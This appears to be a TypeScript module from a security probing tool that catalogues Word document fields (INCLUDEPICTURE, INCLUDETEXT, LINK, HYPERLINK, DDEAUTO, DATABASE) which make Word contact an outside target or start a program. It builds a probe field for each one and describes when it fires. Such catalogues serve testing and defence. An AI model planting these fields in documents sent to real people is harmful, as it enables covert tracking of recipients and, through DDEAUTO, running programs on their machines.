// Fields of Word documents (ECMA-376 part 1 §17.16; the same instructions stand in RTF and in the binary format). Word updates few fields by
// itself when a document is opened; pictures and links are among them.

import type { Vector } from "../model/vector.ts";
import { inFile } from "./build/file-construct.ts";
import { fieldArgument, wordField } from "./build/office-package.ts";
import { cutCommand, cutConnection } from "./microsyntax/command.ts";
import { cutLinkSource } from "./microsyntax/link-source.ts";

export const vectors: readonly Vector[] = [
	inFile({
		id: "field-picture",
		title: "field INCLUDEPICTURE",
		on: ["field picture"],
		why: "Word fetches the picture when the document is opened, without a question (used to profile targets since 2017).",
		probe: (target) => wordField(`INCLUDEPICTURE ${fieldArgument(target)} \\d`),
	}),
	inFile({
		id: "field-text",
		title: "fields INCLUDETEXT, INCLUDE, RD",
		on: ["field text"],
		why: "Word fetches the other document when the field is updated: on opening where it is marked so, else on printing or by hand.",
		probe: (target) => wordField(`INCLUDETEXT ${fieldArgument(target)}`),
	}),
	inFile({
		id: "field-link",
		title: "field LINK",
		on: ["field link"],
		cut: cutLinkSource,
		why: "Word fetches the linked object's source when the document is opened, after a question in newer versions.",
		probe: (target) => wordField(`LINK htmlfile ${fieldArgument(`${target}!`)} "" \\a \\p`),
	}),
	inFile({
		id: "field-hyperlink",
		title: "field HYPERLINK",
		on: ["field hyperlink"],
		trigger: "click",
		why: "Clicking it in the opened document opens it.",
		probe: (target) => wordField(`HYPERLINK ${fieldArgument(target)}`),
	}),
	inFile({
		id: "field-dde",
		title: "fields DDE and DDEAUTO",
		on: ["field dde"],
		cut: cutCommand,
		why: "Word starts a program with it when the document is opened and two questions are answered with yes.",
		probe: (target) => wordField(`DDEAUTO excel ${fieldArgument(target)} item`),
	}),
	inFile({
		id: "field-database",
		title: "field DATABASE",
		on: ["field database"],
		cut: cutConnection,
		why: "Word asks the source for data when the field is updated.",
		probe: (target) => wordField(`DATABASE \\d ${fieldArgument(target)} \\s "SELECT 1"`),
	}),
];
